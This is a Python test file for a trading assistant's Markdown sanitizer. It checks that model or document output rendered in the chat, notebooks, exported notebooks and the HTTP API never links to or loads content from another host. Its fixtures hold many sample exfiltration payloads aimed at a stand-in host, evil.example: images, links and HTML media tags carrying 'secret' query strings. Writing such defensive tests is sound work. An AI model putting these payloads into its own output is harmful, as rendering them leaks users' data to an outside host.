"""Markdown from a model or a document never makes the reader's browser contact another host.

Images and media in every syntax (inline, reference-style, HTML img/video/audio/source/picture/
iframe/object/embed with src/poster/srcset) become a note; links keep their words and lose their
target; raw HTML and bare URLs show as text. Checked on ``strip_remote_images`` itself and on what
the chat, the notebook, the exported notebook and the HTTP API send.
"""

from __future__ import annotations

import asyncio
import random

import pytest
from markup_checks import live_labels, live_markup, visible_text

from tradeassist.chat.safety import strip_remote_images
from tradeassist.core.answer import Answer, Chart, Citation, Contribution, Explanation, Notice, Text

REMOTE = [
    "see ![chart](https://evil.example/pixel.png?secret=1)",
    "see ![y][r]\n\n[r]: http://evil.example/p.png",
    "see ![y][r]\n\n> [r]: http://evil.example/p.png",
    "[click here](http://evil.example/?q=secret)",
    "[click here][r] and [r]\n\n- [r]: http://evil.example/?q=secret",
    '<video poster="http://evil.example/p.png" src="http://evil.example/v.mp4"></video>',
    '<audio src="http://evil.example/a.mp3"></audio>',
    '<img srcset="http://evil.example/a.png 2x">',
    '<picture><source srcset="http://evil.example/a.png"></picture>',
    '<iframe src="http://evil.example/"></iframe>',
    '<object data="http://evil.example/o"></object><embed src="http://evil.example/e">',
    '<a href="http://evil.example/?q=secret">click here</a>',
    "<http://evil.example/?q=secret>",
    "send it to https://evil.example/?q=secret, www.evil.example or x@evil.example",
    "[a [nested] b](http://evil.example/?q=secret)",
    '[x `]: http://evil.example "`"\n\n[x `]',
    "- a\n  ```\n[a [b] c](http://evil.example)\n```",
    "| a | `x | [a [b] c](http://evil.example) ` |\n|---|---|\n| 1 | 2 |",
    '<div style="background:url(http://evil.example/x)">styled</div>',
    "~~`a~~ http://evil.example/x`",
]
#: Pieces of Markdown syntax, shuffled into many documents (a fixed seed: the same ones every run).
PIECES = ["[", "]", "(", ")", "!", "`", "``", "```", "\n", "\n\n", "\\", "<", ">", "http://evil.example/x",
          "www.evil.example", ":", " ", "a", "|", '"', "'", "- ", "> ", "    ", "~~~", "~~", "[r]: http://evil.example",
          "<img src=http://evil.example/i>", "*", "_", "&lt;", "&#91;", "r", "[r]", "](", "x@evil.example", "\r",
          "<a href=//evil.example>", "<video poster=http://evil.example/p>", "[^1]: ", "1. ", "|---|", "\t", "#"]


def _chat_content(answer: Answer) -> tuple[str, list]:
    from chainlit.context import init_http_context

    from tradeassist.chat.render import answer_content

    async def render():
        init_http_context()
        return answer_content(answer)

    return asyncio.run(render())


def _hostile_answer() -> Answer:
    import plotly.graph_objects as go

    words = "\n\n".join(REMOTE)
    figure = go.Figure(go.Bar(x=['<a href="http://evil.example/">NVDA</a>', "MSFT"], y=[1, 2],
                              name='<span style="color:red">score</span>'))
    return Answer("docs", (Notice("See [the policy](http://evil.example/?q=secret)."), Text(words),
                           Chart(figure, kind="bar"),
                           Citation("policy.pdf", 2, words, 0.9),
                           Explanation("NVDA", 0.7, 0.5, (Contribution("rsi_14", 71.0, 0.1),), words)))


@pytest.mark.parametrize("markdown", REMOTE)
def test_no_image_media_or_link_to_another_host_survives(markdown):
    clean = strip_remote_images(markdown)
    assert live_markup(clean) == [], clean


def test_links_keep_their_words_and_images_leave_a_note():
    assert visible_text(strip_remote_images("[click here](http://evil.example/?q=secret).")) == "click here."
    assert visible_text(strip_remote_images('<a href="http://evil.example/">the filing</a>')) == "the filing"
    assert "image removed: chart" in strip_remote_images("![chart](https://evil.example/p.png)")
    assert "media removed" in strip_remote_images('<video poster="http://evil.example/p.png"></video>')
    # A bare URL is shown whole, as code: readable and copyable, never a link.
    assert visible_text(strip_remote_images("see https://evil.example/a?b=1")) == "see https://evil.example/a?b=1"


def test_shuffled_markdown_never_links_or_fetches():
    chance = random.Random(13)
    for _ in range(1500):
        markdown = "".join(chance.choice(PIECES) for _ in range(chance.randint(1, 25)))
        clean = strip_remote_images(markdown)
        assert live_markup(clean) == [], (markdown, clean)
        assert strip_remote_images(clean) == clean  # cleaning twice changes nothing more


#: Code blocks a caller could break: opened on the first line, left open, closed by a line a quote narrows.
BLOCKS = ["```\n[a [b] c](http://evil.example)", "x\n```\n", "```\n```\n[a [b] c](http://evil.example)",
          "```\n\t```\n[a [b] c](http://evil.example)\n```\n[a [b] c](http://evil.example)"]


@pytest.mark.parametrize("block", BLOCKS)
def test_cleaned_text_is_safe_wherever_a_caller_puts_it(block):
    from tradeassist.chat.export import ExportTurn, build_notebook, light_json

    clean = strip_remote_images(block)
    # After a prefix ("Error: ", a notice's icon), in a list item, and before another cleaned text.
    for text in ("ℹ️ " + clean, "- file.pdf: " + clean, clean + "\n\n" + strip_remote_images(BLOCKS[2])):
        assert live_markup(text) == [], text
    # Quoted line by line, as the exported notebook shows a passage.
    answer = Answer("docs", (Text("From the policy."), Citation("policy.pdf", 1, block, 0.9)))
    notebook = build_notebook([ExportTurn("q", light_json("q", answer))], "demo.duckdb")
    for cell in notebook.cells:
        if cell.cell_type == "markdown":
            assert [f for f in live_markup(cell.source) if "small>" not in f] == [], cell.source


def test_the_chat_message_and_its_side_elements_hold_no_remote_link_or_image():
    content, elements = _chat_content(_hostile_answer())
    assert live_markup(content) == [], content
    for element in elements:
        if type(element).__name__ == "Text":  # citation passages, opened in the side panel
            assert live_markup(element.content) == [], element.content
    import json

    chart = json.loads(next(e for e in elements if type(e).__name__ == "Plotly").content)
    assert live_labels(chart) == []


def test_notebook_outputs_hold_no_remote_link_or_image():
    from tradeassist.kernels.display import PLOTLY_MIME, answer_bundles

    bundles = answer_bundles(_hostile_answer())
    page = bundles[0][0]["text/html"]
    for tag in ("<a ", "<img", "<video", "<audio", "<source", "<iframe", "<object", "<embed", "<picture"):
        assert tag not in page, tag
    assert "click here" in page  # a link's words stay
    assert live_markup(bundles[0][0]["text/markdown"]) == []
    assert live_labels(bundles[1][0][PLOTLY_MIME]) == []


def test_exported_notebook_holds_no_remote_link_or_image():
    from tradeassist.chat.export import ExportTurn, build_notebook, light_json

    answer = _hostile_answer()
    failed = {"error": {"type": "DataSourceError", "message": REMOTE[3]}}
    notebook = build_notebook([ExportTurn("What is the policy?", light_json("q", answer)),
                               ExportTurn("and then?", failed)], "demo.duckdb")
    for cell in notebook.cells:
        if cell.cell_type == "markdown":
            found = [f for f in live_markup(cell.source) if "small>" not in f]  # the export's own route line
            assert found == [], cell.source


class _OneAnswer:
    """A backend pool that answers every question with one prepared answer."""

    def __init__(self, settings, answer: Answer):
        self.settings = settings
        self.answer = answer

    async def ask_async(self, question, model="auto") -> Answer:
        return self.answer


def test_http_api_sends_no_remote_link_or_image(settings):
    from fastapi.testclient import TestClient

    from tradeassist.chat.api import create_api
    from tradeassist.chat.ratelimit import TokenBucketLimiter
    from tradeassist.chat.users import UserStore

    api = create_api(_OneAnswer(settings, _hostile_answer()), UserStore(settings, bcrypt_rounds=4),
                     TokenBucketLimiter(rate_per_minute=60, burst=10), service_token="service-token-1")
    body = TestClient(api).post("/ask", json={"question": "What is the policy?"},
                                headers={"Authorization": "Bearer service-token-1"}).json()
    markdown = [body["text"], body["explanation"]["summary"], *(n["message"] for n in body["notices"]),
                *(c["snippet"] for c in body["citations"])]
    for text in markdown:
        assert live_markup(text) == [], text
    assert "the policy" in visible_text(body["notices"][0]["message"])
    assert live_labels(body["chart"]) == []
